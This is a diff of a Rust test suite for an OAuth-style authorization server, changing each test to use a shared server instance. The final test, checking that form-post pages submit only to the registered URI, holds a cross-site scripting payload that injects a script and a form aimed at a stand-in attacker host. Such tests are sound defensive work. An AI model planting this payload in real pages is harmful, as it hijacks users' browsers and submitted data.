@@ -31,7 +31,7 @@ fn parameters(answer: &Answer, mode: &str) -> BTreeMap<String, String> {
 
 #[test]
 fn answers_arrive_where_the_mode_says_with_the_state_byte_for_byte() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let mut browser = signed_in(&gatepost);
     let states = [
         nasty(2_000),
@@ -97,7 +97,7 @@ fn answers_arrive_where_the_mode_says_with_the_state_byte_for_byte() {
 
 #[test]
 fn a_request_survives_the_pages_whole() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let (state, nonce) = (nasty(2_000), nasty(500));
     let mut browser = gatepost.browser();
     let path = authorize_path(
@@ -129,7 +129,7 @@ fn a_request_survives_the_pages_whole() {
 
 #[test]
 fn what_does_not_fit_into_a_pages_address_is_refused_at_once() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let body = encode(&[
         ("client_id", "conf1"),
         ("redirect_uri", RP1),
@@ -149,7 +149,7 @@ fn what_does_not_fit_into_a_pages_address_is_refused_at_once() {
 
 #[test]
 fn order_and_unknown_parameters_do_not_matter() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let mut browser = signed_in(&gatepost);
     let path = authorize_path(
         "conf1",
@@ -181,7 +181,7 @@ fn order_and_unknown_parameters_do_not_matter() {
 
 #[test]
 fn a_post_is_answered_as_a_get_is_after_one_more_step() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let mut browser = signed_in(&gatepost);
     let path = authorize_path("conf1", RP1, &[("state", "posted")]);
     let (_, form) = path.split_once('?').unwrap();
@@ -229,7 +229,7 @@ fn a_post_is_answered_as_a_get_is_after_one_more_step() {
 
 #[test]
 fn other_methods_and_types_are_refused() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let path = authorize_path("conf1", RP1, &[]);
     for method in ["HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"] {
         let answer = gatepost.connect().send(method, &path, &[], b"");
@@ -315,7 +315,7 @@ fn the_query_of_a_registered_uri_stays_as_it_is() {
 
 #[test]
 fn a_form_post_page_posts_to_the_registered_uri_and_nowhere_else() {
-    let gatepost = Gatepost::start();
+    let gatepost = Gatepost::shared();
     let mut browser = signed_in(&gatepost);
     let payload =
         "\"><script>alert(1)</script><form action=https://evil.example><input name='x' value=\"";
